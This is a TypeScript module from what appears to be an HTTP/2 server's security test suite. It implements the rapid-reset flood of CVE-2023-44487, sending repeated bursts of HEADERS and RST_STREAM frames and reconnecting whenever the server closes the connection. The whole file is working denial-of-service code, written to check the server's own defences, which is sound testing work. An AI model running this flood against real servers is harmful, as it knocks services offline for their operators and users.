/**
 * The rapid-reset attack of CVE-2023-44487, as a loop over AttackClient connections: each burst writes HEADERS and
 * an RST_STREAM(CANCEL) for BURST_STREAMS new streams in one socket write, the next burst follows as soon as the
 * kernel took the last one, and when the server closes the connection (GOAWAY, or the socket) a new one is opened,
 * until the stream budget or the time is spent. Used by test/security/rapid-reset-*.test.ts and bench/security.ts.
 */
import { setImmediate as nextTurn, setTimeout as sleep } from 'node:timers/promises';
import { AttackClient, grpcRequestHeaders, type AttackTarget } from './h2-attack-client.ts';

/** Streams per write: HEADERS + RST_STREAM pairs, about 100 bytes each. */
export const BURST_STREAMS = 50;
/** The attacker waits while this much is still queued in its own socket (the server is not reading). */
const BACKLOG_BYTES = 256 * 1024;
/** RFC 9113 §5.1.1: client stream ids are odd and end at 2^31-1. */
const MAX_STREAM_ID = 2 ** 31 - 1;

export interface FloodOptions {
  target: AttackTarget;
  path: string;
  /** Stop after this many streams in total (default: unlimited). */
  maxStreams?: number;
  /** Stop after this long. */
  durationMs: number;
  /** Stop after this many connections (default: unlimited). */
  maxConnections?: number;
  /**
   * Pause between bursts (default 0: as fast as the socket takes them). At full speed node:http2's own limits may
   * close the connection first (GOAWAY INTERNAL_ERROR: its streams are freed a turn after they close, so a read
   * full of new streams finds the table full); a paced flood is what the premature-reset rule must catch.
   */
  paceMs?: number;
}

export interface FloodResult {
  streamsSent: number;
  connections: number;
  /** GOAWAY error codes received, by code. */
  goawayCodes: Record<string, number>;
  /** Connections the server closed (GOAWAY or socket) before the flood stopped using them. */
  closedByServer: number;
}

export async function rapidResetFlood(options: FloodOptions): Promise<FloodResult> {
  const result: FloodResult = { streamsSent: 0, connections: 0, goawayCodes: {}, closedByServer: 0 };
  const deadline = Date.now() + options.durationMs;
  const maxStreams = options.maxStreams ?? Number.POSITIVE_INFINITY;
  const maxConnections = options.maxConnections ?? Number.POSITIVE_INFINITY;
  const authority = `${options.target.host}:${options.target.port}`;
  const headers = grpcRequestHeaders(authority, options.path);
  while (Date.now() < deadline && result.streamsSent < maxStreams && result.connections < maxConnections) {
    let client: AttackClient;
    try {
      client = await AttackClient.open(options.target);
    } catch {
      await sleep(10); // refused or reset while connecting: try again, within the deadline
      continue;
    }
    result.connections++;
    let streamId = 1;
    while (Date.now() < deadline && result.streamsSent < maxStreams && !client.closed && client.goaway() === undefined && streamId < MAX_STREAM_ID - 2 * BURST_STREAMS) {
      const burst = Math.min(BURST_STREAMS, maxStreams - result.streamsSent);
      client.batch(() => {
        for (let i = 0; i < burst; i++, streamId += 2) {
          client.headers(streamId, headers);
          client.rstStream(streamId);
        }
      });
      result.streamsSent += burst;
      if (options.paceMs !== undefined && options.paceMs > 0) await sleep(options.paceMs);
      else await nextTurn();
      // `as boolean`: the awaits in this loop let the connection close, which TypeScript's narrowing does not see.
      while (client.bufferedBytes > BACKLOG_BYTES && !(client.closed as boolean) && Date.now() < deadline) await sleep(1);
    }
    const goaway = client.goaway();
    if (goaway !== undefined) result.goawayCodes[goaway.code] = (result.goawayCodes[goaway.code] ?? 0) + 1;
    if (goaway !== undefined || client.closed) result.closedByServer++;
    client.destroy();
  }
  return result;
}
